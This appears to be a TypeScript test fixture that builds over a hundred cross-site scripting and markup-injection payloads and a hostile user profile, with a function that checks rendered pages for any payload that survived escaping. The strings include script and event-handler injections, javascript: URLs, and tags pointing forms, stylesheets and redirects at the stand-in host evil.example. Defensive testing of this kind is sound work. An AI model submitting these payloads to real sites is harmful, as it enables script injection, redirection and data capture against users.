/**
 * Texts that try to be more than text: markup, styles, turns of direction, controls. They must be shown, and do nothing.
 * Whatever gets through carries the name `pwn`, so that a page can be asked whether anything did.
 */
const ACTS = [
  '<script>pwn()</script>',
  '<img class=pwn src=x onerror=pwn()>',
  '<svg class=pwn onload=pwn()></svg>',
  '<a class=pwn href="javascript:pwn()">press</a>',
  '<iframe class=pwn srcdoc="<script>parent.pwn()</script>"></iframe>',
  '<style class=pwn>*{display:none}</style>',
  '<link class=pwn rel=stylesheet href=//evil.example/x.css>',
  '<base class=pwn href=//evil.example/>',
  '<meta class=pwn http-equiv=refresh content="0;url=//evil.example">',
  '<form class=pwn action=//evil.example><input name=email></form>',
  '<object class=pwn data=//evil.example></object>',
  '<pwn-element>',
  '<button class=pwn formaction=//evil.example>',
  '<template class=pwn><b>',
];
const BREAKS = ['', '">', "'>", '</textarea>', '</title></style></script>', '-->', ']]>'];
const OTHERS = [
  '" class=pwn onmouseover=pwn() x="',
  "' class=pwn onfocus=pwn() autofocus x='",
  '&lt;img class=pwn&gt;',
  '\u202epwn\u202c',
  '\u2066\u2067pwn\u2069',
  'null\u0000\u001b[2Jbyte',
  '}*{background:url(//evil.example/pwn)}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a placeholder that must stay as it is
  '${pwn()} {{constructor}} %s',
];
/** More than a hundred. */
export const PAYLOADS: readonly string[] = [...BREAKS.flatMap((out) => ACTS.map((act) => `${out}${act}`)), ...OTHERS];

/** In every field of one Leader of the house. Stored names refuse controls; what profiles show has them all. */
export const HOSTILE = {
  name: '"><img class=pwn src=x onerror=pwn()> Eve </title><script>pwn()</script>',
  handle: '"><img class=pwn src=x onerror=pwn()>',
  text: PAYLOADS.join(' '),
};

/** What a page holds that it must not, after its texts were hostile: nothing, if all is well. */
export function harmIn(markup: string): string[] {
  const tags = markup.match(/<[a-z!/][^>]*>/gi) ?? [];
  return [
    ...tags.filter((tag) => /pwn/i.test(tag.replaceAll(/"[^"]*"/g, '""'))),
    ...tags.filter((tag) => /\s(on\w+|style)\s*=/i.test(tag.replaceAll(/"[^"]*"/g, '""'))),
    ...tags.filter((tag) => /^<(style|iframe|object|embed|base|template)/i.test(tag)),
    ...tags.filter((tag) => /^<script/i.test(tag) && !/^<script type="module" src="\/assets\//.test(tag)),
    ...tags.filter((tag) => /(href|src|action|formaction)="\s*(javascript|data:text|vbscript)/i.test(tag)),
    ...tags.filter((tag) => /^<(img|link|form|script)/i.test(tag) && /(src|href|action)="(https?:)?\/\//i.test(tag)),
    ...(/[\u202a-\u202e\u2066-\u2069\u0000-\u0008\u001b]/.exec(markup) ? ['a control or a turn of direction'] : []),
  ];
}
